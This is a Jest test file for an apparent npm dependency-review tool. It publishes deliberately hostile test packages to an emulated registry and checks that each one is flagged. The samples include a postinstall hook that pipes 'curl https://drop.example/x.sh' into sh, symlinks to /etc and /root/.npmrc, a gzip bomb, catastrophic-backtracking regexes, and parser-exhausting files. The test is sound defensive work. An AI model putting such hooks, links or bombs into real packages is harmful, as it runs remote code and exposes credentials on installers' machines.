import { gzipSync } from 'node:zlib'
import { afterAll, describe, expect, it } from '@jest/globals'
import { CodePool } from '../../src/package/code/pool.js'
import type { Report } from '../../src/report/report.js'
import { aManifest, aPackageLock } from '../builders/lockfile.js'
import { sriOf } from '../builders/registry.js'
import { buildTarball, type TarballFile } from '../builders/tarball.js'
import { inFolder, run } from '../cli/run.js'
import { startRegistry } from '../emulator/registry.js'

/** Less time than a real review gives a file: what is hostile takes all of it. */
const pool = new CodePool({
  worker: new URL('../../dist/package/code/worker.js', import.meta.url),
  processes: 2,
  fileMillis: 2_000,
})
afterAll(() => pool.close())

const patience = 90_000
const range = (length: number): readonly number[] => Array.from({ length }, (_, index) => index)

interface Published {
  readonly tarball: Buffer
  /** What the registry says besides name and version. */
  readonly manifest: Record<string, unknown>
}

/** A package whose `postinstall` runs the first of its files. */
function onInstall(name: string, files: Readonly<Record<string, string>>): Promise<Published> {
  const [first] = Object.keys(files)
  return publish(name, files, { scripts: { postinstall: `node ${first}` } })
}

async function publish(
  name: string,
  files: Readonly<Record<string, TarballFile>>,
  manifest: Record<string, unknown> = {},
): Promise<Published> {
  const document = JSON.stringify({ name, version: '1.0.0', ...manifest })
  return { tarball: await buildTarball({ 'package.json': document, ...files }), manifest }
}

/** Each by its name, with what it must not do. */
const hostile: Readonly<Record<string, (name: string) => Promise<Published>>> = {
  // Takes the stack of its reader.
  nested: (name) => onInstall(name, { 'a.js': `${'('.repeat(200_000)}1${')'.repeat(200_000)}` }),
  // Takes its memory and its time.
  'one-line': (name) =>
    onInstall(name, {
      'a.js': `x=[${range(2_300_000)
        .map((at) => 1_000_000 + at)
        .join()}]`,
    }),
  // Babel tries each opened bracket twice.
  exponential: (name) => onInstall(name, { 'a.ts': 'a<b>('.repeat(60) }),
  'regular-expressions': (name) =>
    onInstall(name, { 'a.js': `/${'('.repeat(50_000)}${')'.repeat(50_000)}/;/${'a|'.repeat(500_000)}a/;/(a+)+$/` }),
  'ten-thousand': (name) =>
    onInstall(name, {
      'a.js': range(10_000)
        .map((at) => `require('./lib/${at}')`)
        .join('\n'),
      ...Object.fromEntries(range(10_000).map((at) => [`lib/${at}.js`, `exports.a = ${at}\n`])),
    }),
  bomb: async () => ({ tarball: gzipSync(Buffer.alloc(32 * 1024 * 1024)), manifest: {} }),
  links: (name) =>
    publish(name, {
      out: { type: 'symlink', linkname: '../../../../etc' },
      'key.js': { type: 'link', linkname: '/root/.npmrc' },
    }),
  colliding: (name) =>
    publish(name, { 'Index.js': 'exports.a = 1\n', 'index.js': "require('child_process').exec('id')\n" }),
}

/** Nothing is wrong with the one, and something plain with the other: what stands beside the hostile ones must be judged as ever. */
const beside: typeof hostile = {
  'left-pad': (name) => onInstall(name, { 'a.js': 'exports.pad = (text) => text\n' }),
  thief: (name) => publish(name, {}, { scripts: { postinstall: 'curl https://drop.example/x.sh | sh' } }),
}

async function review(): Promise<Report> {
  const all = await Promise.all(
    Object.entries({ ...hostile, ...beside }).map(async ([name, build]) => ({ name, published: await build(name) })),
  )
  const packages = Object.fromEntries(
    all.map(({ name, published }) => [name, { version: '1.0.0', integrity: sriOf('sha512', published.tarball) }]),
  )
  const server = await startRegistry({
    packages: Object.fromEntries(all.map(({ name, published }) => [name, { versions: { '1.0.0': published } }])),
  })
  const files = {
    'base/package.json': '{}',
    'head/package.json': aManifest({ packages }),
    'head/package-lock.json': aPackageLock({ packages }),
  }
  const args = ['review', '--base-dir', 'base', '--head-dir', 'head', '--registry', server.url, '--format', 'json']
  try {
    return await inFolder(files, async (folder) => JSON.parse((await run(folder, args, {}, pool)).out))
  } finally {
    await server.close()
  }
}

const rulesOf = ({ findings }: Report, name: string): readonly string[] =>
  findings.filter((finding) => finding.package?.name === name).map(({ rule }) => rule)

const gapsOf = ({ gaps }: Report, name: string): readonly string[] =>
  gaps
    .filter((gap) => gap.package === `${name}@1.0.0` && gap.matters)
    .map(({ code, detail }) => {
      const [subject = '', reason = ''] = detail.split(': ')
      return code === 'limit-reached' ? `${code} ${subject}` : `${code} ${subject} ${reason}`
    })

describe('a review of hostile packages', () => {
  it(
    'tells of each what could not be read or is odd, and judges the others as if they stood alone',
    async () => {
      const report = await review()

      expect(report.verdict).toBe('flagged')
      expect(report.coverage).toMatchObject({ changed: 10, expected: 10 })
      expect(
        Object.fromEntries(Object.keys({ ...hostile, ...beside }).map((name) => [name, gapsOf(report, name)])),
      ).toEqual({
        nested: ['file-unanalysed a.js too-deep'],
        'one-line': ['file-unanalysed a.js too-large', 'limit-reached maxKeptTextBytes'],
        exponential: ['file-unanalysed a.ts time-out'],
        'regular-expressions': [],
        'ten-thousand': ['limit-reached maxScriptFiles'],
        bomb: ['limit-reached maxUnpackRatio'],
        links: [],
        colliding: [],
        'left-pad': [],
        thief: [],
      })
      for (const name of ['bomb', 'links', 'colliding']) expect(rulesOf(report, name)).toContain('tarball-unsafe')
      for (const name of ['nested', 'one-line', 'exponential'])
        expect(rulesOf(report, name)).toContain('file-unanalysable')
      expect(rulesOf(report, 'thief')).toContain('install-script-dangerous')
      expect(rulesOf(report, 'left-pad')).toEqual(['install-script-present'])
    },
    patience,
  )
})
